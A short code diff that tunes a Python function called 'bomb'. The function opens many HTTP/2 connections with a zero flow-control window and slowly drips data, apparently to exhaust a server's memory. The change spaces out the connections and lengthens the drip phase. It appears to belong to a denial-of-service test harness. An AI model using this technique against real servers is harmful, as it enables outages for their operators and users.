@@ -292,8 +292,10 @@ def bomb(port, connections, streams, value, references):
     for _ in range(connections):
         peer = Peer(port, {INITIAL_WINDOW_SIZE: 0})
         peer.pump(attack)
+        # One after another: it is memory that this is after, and not a thousand requests at one moment.
+        peer.listen(0.05)
         peers.append(peer)
-    while time.monotonic() - report.begun < PATIENCE / 2:
+    while time.monotonic() - report.begun < PATIENCE * 2 / 3:
         for peer in peers:
             peer.pump(drip)
             peer.listen(0)
